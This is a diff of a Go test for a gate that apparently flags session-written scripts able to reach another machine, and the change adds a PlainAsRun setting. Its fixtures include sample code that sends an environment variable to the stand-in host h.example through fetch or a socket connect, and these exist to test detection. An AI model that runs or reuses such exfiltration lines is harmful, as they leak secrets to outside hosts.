@@ -20,7 +20,7 @@ func TestUnvettedTexts(t *testing.T) {
 		{"/w/a.py", "import sys\nimport os\n\nf = open(sys.argv[1], 'w')\nf.write(os.environ['A'])\nconn.connect(('h.example', 80))\n", "python3 a.py", "Runs a.py, which this session wrote and whose line 6 may speak to another machine"},
 		{"/w/a.test.js", "const t = require('node:test')\n\nt('a', async () => {\n  await fetch('https://h.example/?' + process.env.A)\n})\n", "node --test", "a.test.js, which this session wrote or changed and whose line 4 may speak to another machine"},
 	} {
-		st := gates.State{Cwd: "/w", Home: "/home/u", Roots: []string{"/w"}, Text: func(p string) (string, bool) { return tt.text, p == tt.file }, Exists: func(p string) bool { return p == tt.file }, Names: func(dir string) []string {
+		st := gates.State{Cwd: "/w", Home: "/home/u", Roots: []string{"/w"}, PlainAsRun: gates.PlainAsRun, Text: func(p string) (string, bool) { return tt.text, p == tt.file }, Exists: func(p string) bool { return p == tt.file }, Names: func(dir string) []string {
 			if dir == "/w" {
 				return []string{strings.TrimPrefix(tt.file, "/w/")}
 			}
